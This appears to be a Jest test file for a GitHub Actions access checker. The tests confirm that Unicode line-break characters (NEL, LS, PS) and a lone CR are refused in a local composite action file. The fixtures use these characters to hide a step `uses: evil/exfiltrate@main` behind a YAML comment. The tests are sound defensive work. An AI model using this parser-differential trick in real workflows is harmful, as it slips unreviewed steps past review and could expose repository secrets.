/**
 * Session 34 (w-rfaces), left by session 33: NEL, LS and PS end a line for YamlDotNet (the runner reads
 * a composite action's action.yml with it, as GitHub reads a workflow) but not for YAML 1.2. A workflow
 * holding one is refused (parse.ts, session 30); a local composite action file was read as js-yaml reads
 * it, so `# note<LS>    - uses: evil/exfiltrate@main` was a comment here and a step to the runner: the
 * check passed (exit 0), the diff said "No access changes" and the gate allowed the job, for each of
 * the three characters (every positive case failed at 410fed0). Now such a file is held and refused
 * with its line and character (unreadable-local-action), as the workflow is. A lone CR is a line break
 * to both readers; the reader refuses it here (held before, kept). Runs the CLI in-process on directories.
 */
import { afterAll, describe, expect, it } from '@jest/globals';
import { enforceJob } from '../../shared/enforce/verdict.js';
import { withCompositeActions } from '../../shared/workflow/composite.js';
import { cli } from '../support/cli.js';
import { manifest, wf } from '../support/repo.js';
import { ACTION_REPO_MANIFEST, ACTION_REPO_WORKFLOW, actionRepos } from '../support/action-repo.js';

const MANIFEST = ACTION_REPO_MANIFEST;
const WORKFLOW = ACTION_REPO_WORKFLOW;
/** The action; `hidden` is what follows the comment on line 7 (a step to the runner when it breaks). */
const action = (hidden: string) =>
  `name: tool\nruns:\n  using: composite\n  steps:\n    - run: echo hi\n      shell: bash\n    # note${hidden}\n`;
const PLAIN = action('');

const { repo, cleanup } = actionRepos('sw-s34-break-');
afterAll(cleanup);
const gate = async (actionText: string) =>
  enforceJob({
    workflows: await withCompositeActions([wf('ci.yml', WORKFLOW)], async (d) =>
      d === '.github/actions/tool' ? { path: `${d}/action.yml`, text: actionText } : undefined,
    ),
    manifest: manifest(MANIFEST),
    workflow: 'ci.yml',
    job: 'build',
    event: 'push',
  });

describe('a line break of GitHub reader only, in a local composite action file', () => {
  it('control: the plain action passes the check and the gate', async () => {
    const r = await cli(['check', repo(PLAIN), '--format', 'json']);
    expect(r.code).toBe(0);
    expect((await gate(PLAIN)).allowed).toBe(true);
  });

  it.each([
    ['U+0085 (NEXT LINE)', '\u0085'],
    ['U+2028 (LINE SEPARATOR)', '\u2028'],
    ['U+2029 (PARAGRAPH SEPARATOR)', '\u2029'],
  ])(
    '%s hiding a step: the check fails it with the line, the diff widens, the gate denies',
    async (name, ch) => {
      const text = action(`${ch}    - uses: evil/exfiltrate@main`);
      const head = repo(text);
      const r = await cli(['check', head, '--format', 'json']);
      expect(r.code).toBe(1);
      const found = (
        JSON.parse(r.stdout) as { findings: { rule: string; message: string; severity: string }[] }
      ).findings;
      const e = found.find((f) => f.rule === 'unreadable-local-action');
      expect(e?.severity).toBe('error');
      expect(e?.message).toContain(`line 7 holds ${name}`);
      expect(e?.message).toContain('.github/actions/tool');

      const d = await cli(['diff', repo(PLAIN), head, '--format', 'json', '--fail-on', 'widened']);
      expect(d.code).toBe(1);
      const changes = (JSON.parse(d.stdout) as { changes: { job: string; effect: string }[] }).changes;
      expect(changes.some((c) => c.job === 'build' && c.effect !== 'narrowed')).toBe(true);

      const v = await gate(text);
      expect(v.allowed).toBe(false);
      expect(v.problems.find((p) => p.rule === 'unreadable-local-action')?.message).toContain(
        `line 7 holds ${name}`,
      );
    },
  );

  it('held: the same characters written as escapes in a double-quoted string are read, not refused', async () => {
    const text = `${PLAIN}    - run: echo "a\\u2028b\\u0085c\\u2029"\n      shell: bash\n`;
    expect((await cli(['check', repo(text)])).code).toBe(0);
    expect((await gate(text)).allowed).toBe(true);
  });

  it('held: a lone CR (a break to both readers) is refused with its line', async () => {
    const r = await cli(['check', repo(action('\r    - uses: evil/exfiltrate@main'))]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/unreadable-local-action[^\n]*\(line 7\)/);
  });
});
